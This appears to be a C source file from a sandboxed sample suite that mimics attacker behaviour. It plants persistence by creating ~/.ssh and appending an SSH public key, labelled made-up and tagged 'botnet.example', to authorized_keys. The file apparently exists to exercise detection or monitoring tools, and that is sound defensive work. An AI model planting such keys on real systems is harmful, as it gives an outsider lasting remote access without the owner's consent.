/* Persistence through an SSH key in ~/.ssh/authorized_keys (a made-up key). */
#include "common.h"

static int run_persist_sshkey(int argc, char **argv)
{
    static const char key[] =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEZlcnJldCBiZW5pZ24gc2FtcGxlIG5vdCBhIHJlYWwga2V5 "
        "ferret-sample@botnet.example\n";
    const char *home = getenv("HOME");
    char dir[512], path[600];
    (void)argc;
    (void)argv;
    require_sandbox("persist_sshkey");
    if (!home || !*home)
        home = "/root";
    snprintf(dir, sizeof dir, "%s/.ssh", home);
    if (mkdir(dir, 0700) < 0 && errno != EEXIST)
        check("mkdir(~/.ssh)", -1);
    else
        say("mkdir(~/.ssh)", "ok %s", dir);
    snprintf(path, sizeof path, "%s/authorized_keys", dir);
    write_file("append ~/.ssh/authorized_keys", path, O_CREAT | O_APPEND, 0600, key,
               sizeof key - 1);
    check("chmod(authorized_keys, 0600)", chmod(path, 0600));
    return 0;
}
SAMPLE_MAIN(persist_sshkey)
